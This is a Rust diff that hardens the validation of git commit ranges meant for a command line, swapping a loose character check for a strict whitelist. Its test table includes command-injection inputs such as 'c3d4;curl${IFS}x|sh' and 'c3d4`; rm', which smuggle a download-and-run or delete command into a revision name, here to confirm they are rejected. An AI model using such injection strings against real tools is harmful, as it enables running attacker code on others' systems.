@@ -85,11 +85,9 @@ impl ReturnedWork {
 
     /// Returns the range of its commits for git, or an empty text where that is unknown.
     pub fn range(&self) -> String {
-        let is_name = |text: &str| {
-            !text.is_empty()
-                && !text.starts_with('-')
-                && text.chars().all(|letter| letter.is_ascii_graphic() && letter != '`')
-        };
+        // The session is told to use it on a command line.
+        let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "/._-".contains(letter);
+        let is_name = |text: &str| !text.is_empty() && !text.starts_with('-') && text.chars().all(is_plain);
         if is_name(&self.base) && is_name(&self.end) && self.base != self.end {
             format!("{}..{}", self.base, self.end)
         } else {
@@ -141,6 +139,7 @@ mod tests {
             ("a1b2", "a1b2", ""),
             ("--output=x", "c3d4", ""),
             ("a1b2", "c3d4`; rm", ""),
+            ("a1b2", "c3d4;curl${IFS}x|sh", ""),
             ("a1 b2", "c3d4", ""),
         ] {
             let work = ReturnedWork { base: base.into(), end: end.into(), ..ReturnedWork::default() };
